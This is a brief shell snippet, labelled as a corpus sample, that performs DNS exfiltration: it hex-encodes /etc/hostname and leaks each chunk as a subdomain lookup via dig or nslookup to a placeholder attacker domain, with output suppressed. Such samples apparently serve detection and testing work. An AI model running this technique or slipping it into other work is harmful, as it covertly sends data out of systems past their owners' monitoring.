# corpus: DNS exfiltration by resolving chunks of a hex-encoded file with dig/nslookup
xxd -p /etc/hostname | while read -r chunk; do
  dig +short "$chunk.x.evil.invalid" >/dev/null 2>&1 || nslookup "$chunk.x.evil.invalid" >/dev/null 2>&1
done
